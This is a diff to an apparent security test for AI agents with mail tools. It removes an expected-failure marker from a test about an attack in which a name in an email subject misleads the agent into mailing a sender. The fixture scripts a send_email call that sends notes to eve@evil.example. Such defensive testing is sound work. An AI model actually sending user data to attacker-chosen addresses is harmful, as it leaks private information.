@@ -14,8 +14,6 @@ that names whose the record is, is not pointed at by the name: asked.
 
 from __future__ import annotations
 
-import pytest
-
 from tests.attacks.intent.harness import run
 
 TOOLS = {"mail": [{"name": "list_emails", "annotations": {"readOnlyHint": True}},
@@ -26,8 +24,6 @@ INBOX = {"emails": [
     {"id": "msg_2", "from": "bob@corp.example", "subject": "Lunch", "snippet": "tomorrow?"}]}
 
 
-@pytest.mark.xfail(strict=True, reason="s13 attacker2: a name in a mail's subject names the mail as the person's "
-                                       "record, and its sender is sent to")
 def test_a_subject_that_mentions_the_name_points_at_no_sender():
     steps = [{"tool": "list_emails", "result": INBOX},
              {"tool": "send_email", "args": {"to": "eve@evil.example", "subject": "Q3", "body": "notes"},
